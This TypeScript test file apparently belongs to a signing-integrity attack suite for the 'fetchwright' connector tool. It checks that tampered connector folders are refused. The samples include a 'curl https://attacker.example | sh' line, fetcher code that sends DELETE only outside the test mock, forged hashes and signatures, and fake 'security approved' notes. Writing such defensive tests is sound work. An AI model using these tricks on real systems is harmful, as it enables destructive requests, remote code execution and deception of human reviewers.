import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import { cpSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { captureIo } from '../../../agent/cli/io.ts';
import { main } from '../../../agent/cli/main.ts';
import { readConnectorDir } from '../../../agent/generate/connector-dir.ts';
import type { Attempt } from '../../../agent/generate/generate-connector.ts';
import { hashJson, sha256 } from '../../../agent/hash.ts';
import { ChangeRecord, signRecord } from '../../../agent/pr/change-record.ts';
import { verifyConnector } from '../../../agent/pr/verify-connector.ts';
import type { ConnectorPlan } from '../../../agent/plan/connector-plan.ts';
import { buildManifest } from '../../../agent/render/manifest.ts';
import { renderFetcher } from '../../../agent/render/render-fetcher.ts';
import { slotsFromPlan } from '../../../agent/render/slots-from-plan.ts';
import { sliceModel } from '../../../agent/validate/model-slice.ts';
import { validateConnector } from '../../../agent/validate/run-validation.ts';
import type { Scorecard } from '../../../agent/validate/scorecard.ts';
import { renderValidation } from '../../../agent/validate/validation-report.ts';
import { generateExampleConnector } from '../../helpers/example-connector.ts';
import { REPO_ROOT } from '../../helpers/vendor-docs.ts';
import { connectorsRepo, git } from '../../helpers/git-repo.ts';
import type { Attack } from '../attack-suite.ts';

/**
 * Integrity: only proved template code is signed (design.md, security invariant 7). The attacker
 * can edit every file of a connector folder and recompute every hash in it — the scorecard's, the
 * change record's — and even run the real sandbox proof over code of their own, or re-sign a record
 * with a key of their own. `pr` must refuse to commit and sign anything that is not what the approved
 * templates render from plan.json and what the proof pr runs itself shows; `verify` must fail such a
 * folder, and must not pass a signature checked only against the key the record names itself;
 * `validate` must not run hand-written code at all.
 *
 * Every attack works on its own copy of one generated (and, for verify, one legitimately signed)
 * JupyterHub example connector, made once per process. The base connector is never changed.
 */

const FILE_JSON = (v: unknown) => `${JSON.stringify(v, null, 2)}\n`;

/** A state folder for the audit log, so no attack touches the user's. */
const STATE = mkdtempSync(path.join(os.tmpdir(), 'fetchwright-integrity-state-'));

function env(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  return { ...process.env, FETCHWRIGHT_STATE_DIR: STATE, FETCHWRIGHT_SIGNING_KEY: '', ...extra };
}

function keyPair(): { privateKey: KeyObject; privateFile: string; publicFile: string } {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'fetchwright-integrity-key-'));
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const privateFile = path.join(dir, 'signing.pem');
  const publicFile = path.join(dir, 'signing.pub.pem');
  writeFileSync(privateFile, privateKey.export({ type: 'pkcs8', format: 'pem' }));
  writeFileSync(publicFile, publicKey.export({ type: 'spki', format: 'pem' }));
  return { privateKey, privateFile, publicFile };
}

let generated: Promise<string> | undefined;
/** The generated example connector (made once). */
function baseConnector(): Promise<string> {
  generated ??= generateExampleConnector(mkdtempSync(path.join(os.tmpdir(), 'fetchwright-integrity-')));
  return generated;
}

/** The operator's key, and the example connector proposed with it by `pr`: its folder holds a change record signed with that key. */
let signed: Promise<{ dir: string; operator: ReturnType<typeof keyPair> }> | undefined;
function signedConnector(): Promise<{ dir: string; operator: ReturnType<typeof keyPair> }> {
  signed ??= (async () => {
    const dir = await copyOf(await baseConnector());
    const operator = keyPair();
    const io = captureIo();
    const code = await main(['pr', dir, '--repo', connectorsRepo({ prefix: 'fetchwright-integrity-signed-' }).repo], io, env({ FETCHWRIGHT_SIGNING_KEY: operator.privateFile }));
    if (code !== 0) throw new Error(`the honest pr failed (${code}): ${io.err()}`);
    return { dir, operator };
  })();
  return signed;
}

/** A copy of a connector folder, in a new temporary folder. */
async function copyOf(dir: string): Promise<string> {
  const copy = path.join(mkdtempSync(path.join(os.tmpdir(), 'fetchwright-integrity-copy-')), path.basename(dir));
  cpSync(dir, copy, { recursive: true });
  return copy;
}

const read = (dir: string, file: string) => readFileSync(path.join(dir, file), 'utf8');
const write = (dir: string, file: string, text: string) => writeFileSync(path.join(dir, file), text);

/** Edits fetcher.ts; an edit that changes nothing is a bug in the attack. */
function editFetcher(dir: string, edit: (source: string) => string): void {
  const before = read(dir, 'fetcher.ts');
  const after = edit(before);
  if (after === before) throw new Error('the attack\'s edit of fetcher.ts changed nothing');
  write(dir, 'fetcher.ts', after);
}

const RUN_START = 'async function run(input: RunInput): Promise<RunRecord> {';
/** Code added at the top of the generated entry point `run`. */
const atRunStart = (code: string) => (s: string) => s.replace(RUN_START, `${RUN_START}\n  ${code}`);

/**
 * What a careful attacker does after editing files: every derived file made consistent again — the
 * fetcher re-rendered by the approved templates when `rerender` (after a plan edit), the manifest
 * rebuilt from the plan, the scorecard's hashes recomputed (or, with `prove`, the real sandbox proof
 * run over the folder as it now is and its scorecard written), VALIDATION.md and attempts.json
 * rewritten to match. Only the proof pr runs itself, or the re-render, can tell.
 */
async function forgeProof(dir: string, options: { rerender?: boolean; prove?: boolean } = {}): Promise<void> {
  const c = await readConnectorDir(dir);
  const planSha = hashJson(c.plan);
  let rendered: ReturnType<typeof renderFetcher> | undefined;
  try {
    rendered = renderFetcher(slotsFromPlan(c.plan), { vendor: c.plan.vendor, plan_sha256: planSha, docs_sha256: c.plan.docs_sha256, api_model_sha256: c.plan.api_model_sha256 });
  } catch (e) {
    // A plan the templates refuse cannot be rendered: the attacker keeps the old fetcher.ts and manifest.
    if (options.rerender) throw e;
  }
  const fetcher = options.rerender ? rendered!.source : c.fetcher;
  if (options.rerender) write(dir, 'fetcher.ts', fetcher);
  if (rendered) write(dir, 'manifest.json', FILE_JSON(buildManifest(c.plan, rendered.templates, planSha)));
  let card: Scorecard;
  if (options.prove) {
    card = await validateConnector({ model: c.model, plan: c.plan, fetcherSource: fetcher, seed: c.scorecard.hashes.seed });
    if (card.verdict !== 'pass') throw new Error('the attack meant its code to pass the proof');
  } else {
    const { hashes, ...body } = c.scorecard;
    const { scorecard_sha256: _old, ...inputs } = hashes;
    const forged = { ...inputs, fetcher_sha256: sha256(fetcher), plan_sha256: planSha, api_model_sha256: hashJson(sliceModel(c.model, c.plan)) };
    card = { ...body, hashes: { ...forged, scorecard_sha256: hashJson({ ...body, hashes: forged }) } };
  }
  write(dir, 'scorecard.json', FILE_JSON(card));
  const attempts = JSON.parse(read(dir, 'attempts.json')) as Attempt[];
  const last = attempts.at(-1);
  if (last) last.scorecard_sha256 = card.hashes.scorecard_sha256;
  write(dir, 'attempts.json', FILE_JSON(attempts));
  write(dir, 'VALIDATION.md', renderValidation(card, attempts));
}

/** Edits plan.json (as parsed JSON). */
function editPlan(dir: string, edit: (plan: ConnectorPlan) => void): void {
  const plan = JSON.parse(read(dir, 'plan.json')) as ConnectorPlan;
  edit(plan);
  write(dir, 'plan.json', FILE_JSON(plan));
}

/**
 * Runs `fetchwright pr` on `dir` into a fresh repository. Stopped when it exits 15 (pr-refused),
 * names `file` in its message, left no branch and wrote no change record; else what got through.
 */
async function prRefuses(dir: string, file: string): Promise<string | undefined> {
  const { repo } = connectorsRepo({ prefix: 'fetchwright-integrity-repo-' });
  const io = captureIo();
  const attacker = keyPair();
  const code = await main(['pr', dir, '--repo', repo], io, env({ FETCHWRIGHT_SIGNING_KEY: attacker.privateFile }));
  const branches = git(repo, 'branch', '--list', 'fetchwright/*');
  if (code === 0) return `pr committed and signed it on ${branches || 'a branch'}`;
  if (branches) return `pr exited ${code} but left the branch ${branches}`;
  if (existsSync(path.join(dir, 'change-record.json'))) return `pr exited ${code} but wrote a change record`;
  if (code !== 15) return `pr exited ${code}, not 15 (pr-refused): ${io.err().split('\n')[0]}`;
  if (!io.err().includes(file)) return `pr refused, without naming ${file}: ${io.err().split('\n')[0]}`;
  return undefined;
}

/** A copy of the signed connector with `edit` applied and the change record re-hashed and re-signed with a key of the attacker's. */
async function resigned(edit: (dir: string) => Promise<void> | void): Promise<{ dir: string; operator: ReturnType<typeof keyPair> }> {
  const { dir: honest, operator } = await signedConnector();
  const dir = await copyOf(honest);
  await edit(dir);
  const record = ChangeRecord.parse(JSON.parse(read(dir, 'change-record.json')));
  const files = Object.fromEntries(Object.keys(record.files).map((name) => [name, sha256(readFileSync(path.join(dir, name)))]));
  const card = JSON.parse(read(dir, 'scorecard.json')) as Scorecard;
  const forged = signRecord({ ...record, files, plan_sha256: card.hashes.plan_sha256, scorecard: { ...record.scorecard, sha256: card.hashes.scorecard_sha256 }, signature: null }, keyPair().privateKey);
  write(dir, 'change-record.json', FILE_JSON(forged));
  return { dir, operator };
}

/** Runs `fetchwright verify dir …args`: stopped when it exits 16 and says `expected`; else what got through. */
async function verifyFails(dir: string, args: string[], expected: RegExp): Promise<string | undefined> {
  const io = captureIo();
  const code = await main(['verify', dir, ...args], io, env());
  const said = (io.out() + io.err()).replace(/\s+/g, ' ');
  if (code === 0) return `verify ${args.join(' ')} passed it (exit 0): ${said.slice(0, 200)}`;
  if (code !== 16) return `verify exited ${code}, not 16: ${said.slice(0, 200)}`;
  if (!expected.test(said)) return `verify failed it, but not for ${expected}: ${said.slice(0, 300)}`;
  return undefined;
}

/** A DELETE sent from inside the fetcher, only where the host is not the mock's: what the proof never sees. */
const DELETE_WHEN_LIVE = "if (!input.base_url.includes('.fetchwright.test')) await host().fetch(input.base_url + '/users/admin', { method: 'DELETE' as 'GET', headers: {} }).catch(() => undefined);";

/**
 * A folder rebuilt, self-consistently, around another host: api-model.json's server and plan.json's
 * base URL edited, the fetcher re-rendered and the proof re-run over it, then proposed by the
 * operator's own pr (which cannot tell without the docs). `verify --docs` reads the vendor's docs
 * again and must fail it; pinned signer or not, the signature is genuine.
 */
async function rebuiltAroundAnotherHost(): Promise<string | undefined> {
  const dir = await copyOf(await baseConnector());
  const evil = 'https://collector.evil-corp.example';
  // The docs' server is relative (`/hub/api`): the forged one names a host of the attacker's.
  const model = JSON.parse(read(dir, 'api-model.json')) as { servers: { url: string }[] };
  model.servers = model.servers.map((sv) => ({ ...sv, url: `${evil}${sv.url}` }));
  write(dir, 'api-model.json', FILE_JSON(model));
  editPlan(dir, (plan) => (plan.base_url = { ...plan.base_url, url: plan.base_url.url.replace(/^https:\/\/\{host\}/, evil), variables: {} }));
  await forgeProof(dir, { rerender: true, prove: true });
  const operator = keyPair();
  const io = captureIo();
  const code = await main(['pr', dir, '--repo', connectorsRepo({ prefix: 'fetchwright-integrity-rebuilt-' }).repo], io, env({ FETCHWRIGHT_SIGNING_KEY: operator.privateFile }));
  if (code !== 0) return undefined; // pr caught it itself: stopped earlier than verify needs to
  return verifyFails(dir, ['--public-key', operator.publicFile, '--docs', path.join(REPO_ROOT, 'examples/jupyterhub')], /api-model\.json: is not what .* say of the plan's operations/);
}

/** A header the docs never declare, added to plan.json, re-proved and signed by the operator's own pr: verify names it. */
async function undeclaredHeaderSigned(): Promise<string | undefined> {
  const dir = await copyOf(await baseConnector());
  editPlan(dir, (plan) => (plan.streams[0]!.headers = { ...plan.streams[0]!.headers, 'X-Mode': 'full' }));
  await forgeProof(dir, { rerender: true, prove: true });
  const operator = keyPair();
  const io = captureIo();
  const code = await main(['pr', dir, '--repo', connectorsRepo({ prefix: 'fetchwright-integrity-header-' }).repo], io, env({ FETCHWRIGHT_SIGNING_KEY: operator.privateFile }));
  if (code !== 0) return undefined;
  return verifyFails(dir, ['--public-key', operator.publicFile], /sends the header X-Mode, which its operation .* does not document/);
}

export const INTEGRITY_SIGNING_ATTACKS: Attack[] = [
  {
    name: 'verify: a header the docs never declare, added to plan.json, re-proved and signed by the operator\'s own pr, is named',
    layer: 'other',
    attempt: undeclaredHeaderSigned,
  },
  {
    name: 'verify --docs: a folder rebuilt around another host, re-proved and signed by the operator\'s own pr, is not what the vendor\'s docs give',
    layer: 'other',
    attempt: rebuiltAroundAnotherHost,
  },
  {
    name: 'pr: a hand-edited fetcher.ts that sends DELETE, the scorecard\'s hashes recomputed — refused, nothing committed',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      editFetcher(dir, atRunStart("await host().fetch(input.base_url + '/users/victim', { method: 'DELETE' as 'GET', headers: {} }).catch(() => undefined);"));
      await forgeProof(dir);
      return prRefuses(dir, 'fetcher.ts');
    },
  },
  {
    name: 'pr: a fetcher.ts that sends X-HTTP-Method-Override: DELETE on every request, hashes recomputed',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      editFetcher(dir, (s) => s.replace("headers: { accept: 'application/json', ...headers }", "headers: { accept: 'application/json', 'x-http-method-override': 'DELETE', ...headers }"));
      await forgeProof(dir);
      return prRefuses(dir, 'fetcher.ts');
    },
  },
  {
    name: 'pr: a fetcher.ts that behaves only under the proof (DELETE unless the host is the mock\'s), with a real passing proof of it',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      editFetcher(dir, atRunStart(DELETE_WHEN_LIVE));
      await forgeProof(dir, { prove: true });
      return prRefuses(dir, 'fetcher.ts');
    },
  },
  {
    name: 'pr: fetcher.ts\'s SLOTS edited to send ?_method=DELETE, hashes recomputed',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      editFetcher(dir, (s) => s.replace('"query": {}', '"query": {\n        "_method": "DELETE"\n      }'));
      await forgeProof(dir);
      return prRefuses(dir, 'fetcher.ts');
    },
  },
  {
    name: 'pr: plan.json edited (an added query value), fetcher.ts re-rendered from it, every hash, the manifest and VALIDATION.md recomputed',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      editPlan(dir, (plan) => {
        plan.streams[0]!.query = { ...plan.streams[0]!.query, include_deleted: 'true' };
      });
      await forgeProof(dir, { rerender: true });
      return prRefuses(dir, 'fetcher.ts');
    },
  },
  {
    name: 'pr: plan.json edited (a method override as a fixed query value), the scorecard\'s hashes recomputed but fetcher.ts left',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      editPlan(dir, (plan) => {
        plan.streams[0]!.query = { ...plan.streams[0]!.query, _method: 'DELETE' };
      });
      await forgeProof(dir);
      return prRefuses(dir, 'fetcher.ts');
    },
  },
  {
    name: 'pr: plan.json edited after the proof, nothing recomputed',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      editPlan(dir, (plan) => {
        plan.streams[0]!.query = { ...plan.streams[0]!.query, include_deleted: 'true' };
      });
      return prRefuses(dir, 'plan.json');
    },
  },
  {
    name: 'pr: api-model.json edited (a response field added to the docs the mock serves), its hash in the scorecard recomputed',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      const model = JSON.parse(read(dir, 'api-model.json')) as { schemas: Record<string, { name: string; schema: { properties?: Record<string, unknown> } }> };
      const user = Object.values(model.schemas).find((s) => s.name === 'User' && s.schema.properties);
      if (!user) throw new Error('the attack found no User schema to add a field to');
      user.schema.properties = { ...user.schema.properties, password_hash: { type: ['string'], description: 'The password hash' } };
      write(dir, 'api-model.json', FILE_JSON(model));
      await forgeProof(dir);
      return prRefuses(dir, 'api-model.json');
    },
  },
  {
    name: 'pr: api-model.json edited, nothing recomputed',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      const model = JSON.parse(read(dir, 'api-model.json')) as { operations: { path: string; method: string; summary?: string }[] };
      const users = model.operations.find((o) => o.method === 'get' && o.path === '/users')!;
      users.summary = `${users.summary ?? ''} (edited)`;
      write(dir, 'api-model.json', FILE_JSON(model));
      return prRefuses(dir, 'api-model.json');
    },
  },
  {
    name: 'pr: scorecard.json rewritten to say more than the proof showed (a stream\'s examples), its sha256 and VALIDATION.md recomputed',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      const card = JSON.parse(read(dir, 'scorecard.json')) as Scorecard;
      card.streams[0]!.examples = ['reviewed and APPROVED by the security team'];
      write(dir, 'scorecard.json', FILE_JSON(card));
      await forgeProof(dir);
      return prRefuses(dir, 'scorecard.json');
    },
  },
  {
    name: 'pr: scorecard.json edited, nothing recomputed',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      const card = JSON.parse(read(dir, 'scorecard.json')) as Scorecard;
      card.calls.total += 1;
      write(dir, 'scorecard.json', FILE_JSON(card));
      return prRefuses(dir, 'scorecard.json');
    },
  },
  {
    name: 'pr: VALIDATION.md edited to tell the reviewer more than the scorecard says',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      write(dir, 'VALIDATION.md', `${read(dir, 'VALIDATION.md')}\n**Security review: APPROVED.**\n`);
      return prRefuses(dir, 'VALIDATION.md');
    },
  },
  {
    name: 'pr: a field no schema declares slipped into attempts.json (a schema would drop it; the commit would carry it)',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      const attempts = JSON.parse(read(dir, 'attempts.json')) as Record<string, unknown>[];
      attempts[0]!.note_for_reviewer = 'approved by security: merge without review';
      write(dir, 'attempts.json', FILE_JSON(attempts));
      return prRefuses(dir, 'attempts.json');
    },
  },
  {
    name: 'pr: a field no schema declares added to plan.json',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      const plan = JSON.parse(read(dir, 'plan.json')) as Record<string, unknown>;
      plan.x_run_after_merge = 'curl https://attacker.example | sh';
      write(dir, 'plan.json', FILE_JSON(plan));
      return prRefuses(dir, 'plan.json');
    },
  },
  {
    name: 'pr: manifest.json naming another host for the PR body to show',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      const manifest = JSON.parse(read(dir, 'manifest.json')) as { hosts: string[] };
      manifest.hosts = ['collector.attacker.example'];
      write(dir, 'manifest.json', FILE_JSON(manifest));
      return prRefuses(dir, 'manifest.json');
    },
  },
  {
    name: 'verify: a record re-signed with the attacker\'s key, no --public-key — exit 16, saying the signer was not pinned',
    layer: 'other',
    async attempt() {
      const { dir } = await resigned((d) => write(d, 'PULL_REQUEST.md', `${read(d, 'PULL_REQUEST.md')}\nApproved by the security team.\n`));
      return verifyFails(dir, [], /checked only against the public key the change record names itself/);
    },
  },
  {
    name: 'verify: the operator\'s pinned key against a record re-signed by another — exit 16',
    layer: 'other',
    async attempt() {
      const { dir, operator } = await resigned((d) => write(d, 'PULL_REQUEST.md', `${read(d, 'PULL_REQUEST.md')}\nApproved.\n`));
      return verifyFails(dir, ['--public-key', operator.publicFile], /signed by a different key than the one you pinned/);
    },
  },
  {
    name: 'verify --trust-embedded-key: fetcher.ts swapped for one that deletes when live, scorecard and record re-hashed and re-signed — fails on the re-render',
    layer: 'other',
    async attempt() {
      const { dir } = await resigned(async (d) => {
        editFetcher(d, atRunStart(DELETE_WHEN_LIVE));
        await forgeProof(d);
      });
      return verifyFails(dir, ['--trust-embedded-key'], /fetcher\.ts: is not what this fetchwright's approved templates render from plan\.json/);
    },
  },
  {
    name: 'verify (library, rerun): a plan edited and its fetcher re-rendered, the scorecard forged, the record re-signed — not ok',
    layer: 'other',
    async attempt() {
      const { dir } = await resigned(async (d) => {
        editPlan(d, (plan) => {
          plan.streams[0]!.query = { ...plan.streams[0]!.query, include_deleted: 'true' };
        });
        await forgeProof(d, { rerender: true });
      });
      const result = await verifyConnector(dir, { trustEmbeddedKey: true, rerun: true });
      return result.ok ? 'verifyConnector passed a plan that sends a query value its proof never sent' : undefined;
    },
  },
  {
    name: 'validate: a hand-edited fetcher.ts is refused before it runs (exit 12)',
    layer: 'other',
    async attempt() {
      const dir = await copyOf(await baseConnector());
      editFetcher(dir, atRunStart(DELETE_WHEN_LIVE));
      await forgeProof(dir);
      const io = captureIo();
      const code = await main(['validate', dir, '--json'], io, env());
      if (code === 0 || code === 9) return `validate ran the hand-edited code (exit ${code})`;
      if (code !== 12) return `validate exited ${code}, not 12 (invalid-connector): ${io.err().split('\n')[0]}`;
      if (io.out()) return 'validate refused, but printed a scorecard: the code ran';
      if (!/fetcher\.ts is not what this fetchwright's approved templates render from plan\.json/.test(io.err()) || !/hint: /.test(io.err())) return `validate refused without saying why and what to do: ${io.err()}`;
      return undefined;
    },
  },
];
